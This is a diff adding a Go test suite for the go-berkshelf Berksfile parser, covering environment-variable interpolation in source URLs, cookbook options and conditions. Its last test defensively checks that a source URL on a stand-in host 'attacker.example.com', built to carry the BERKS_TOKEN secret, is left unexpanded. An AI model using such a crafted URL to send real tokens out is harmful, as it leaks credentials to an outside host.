@@ -0,0 +1,76 @@
+package berksfile_test
+
+import (
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+
+	"github.com/bdwyertech/go-berkshelf/pkg/berksfile"
+)
+
+var _ = Describe("String interpolation", func() {
+	BeforeEach(func() {
+		setEnv("BERKS_SUPERMARKET", "supermarket.example.com")
+		setEnv("BERKS_TOKEN", "s3cret")
+		unsetEnv("BERKS_BRANCH")
+	})
+
+	It("should expand ENV in source URLs and options", func() {
+		b, err := berksfile.Parse(`
+source "https://#{ENV['BERKS_SUPERMARKET']}"
+cookbook 'app', git: "https://#{ENV.fetch('BERKS_TOKEN')}@git.example.com/app.git", branch: "#{ENV.fetch('BERKS_BRANCH', 'main')}"
+`)
+		Expect(err).NotTo(HaveOccurred())
+		Expect(b.Sources[0].URL).To(Equal("https://supermarket.example.com"))
+		app := b.GetCookbook("app")
+		Expect(app.Source.URL).To(Equal("https://s3cret@git.example.com/app.git"))
+		Expect(app.Source.Ref).To(Equal("main"))
+	})
+
+	It("should expand an unset variable to an empty string", func() {
+		b, err := berksfile.Parse(`source "https://supermarket.example.com/#{ENV['BERKS_BRANCH']}"`)
+		Expect(err).NotTo(HaveOccurred())
+		Expect(b.Sources[0].URL).To(Equal("https://supermarket.example.com/"))
+	})
+
+	It("should expand ENV when conditions do not read it", func() {
+		berksfile.EvalEnv = false
+		DeferCleanup(func() { berksfile.EvalEnv = true })
+
+		b, err := berksfile.Parse(`source "https://#{ENV['BERKS_SUPERMARKET']}"`)
+		Expect(err).NotTo(HaveOccurred())
+		Expect(b.Sources[0].URL).To(Equal("https://supermarket.example.com"))
+	})
+
+	It("should leave single-quoted strings as they are", func() {
+		b, err := berksfile.Parse(`cookbook 'app', path: '#{ENV["BERKS_TOKEN"]}'`)
+		Expect(err).NotTo(HaveOccurred())
+		Expect(b.GetCookbook("app").Source.Path).To(Equal(`#{ENV["BERKS_TOKEN"]}`))
+	})
+
+	It("should leave unsupported interpolations as they are with a warning", func() {
+		b, err := berksfile.Parse(`source "https://#{host}"
+cookbook 'app', path: "#{__dir__}/app"
+cookbook 'web', path: "#{File.expand_path('web', __dir__)}"
+`)
+		Expect(err).NotTo(HaveOccurred())
+		Expect(b.Sources[0].URL).To(Equal("https://#{host}"))
+		Expect(b.GetCookbook("app").Source.Path).To(Equal("#{__dir__}/app"))
+		Expect(b.GetCookbook("web").Source.Path).To(Equal("#{File.expand_path('web', __dir__)}"))
+		Expect(b.Warnings).To(HaveLen(3))
+		Expect(b.Warnings[0]).To(HavePrefix("line 1: left #{host} uninterpolated: "))
+		Expect(b.Warnings[1]).To(HavePrefix("line 2: left #{__dir__} uninterpolated: "))
+	})
+	It("should read neither ENV nor files when the options allow neither", func() {
+		b, err := berksfile.ParseWithOptions(`source "https://attacker.example.com/#{ENV['BERKS_TOKEN']}"
+cookbook 'ci' if ENV['BERKS_TOKEN']
+cookbook 'local' if File.exist?('/')
+cookbook 'app'
+`, berksfile.ParseOptions{})
+		Expect(err).NotTo(HaveOccurred())
+		Expect(b.Sources[0].URL).To(Equal("https://attacker.example.com/#{ENV['BERKS_TOKEN']}"))
+		Expect(b.GetCookbook("ci")).To(BeNil())
+		Expect(b.GetCookbook("local")).To(BeNil())
+		Expect(b.GetCookbook("app")).NotTo(BeNil())
+		Expect(b.Warnings).To(HaveLen(3))
+	})
+})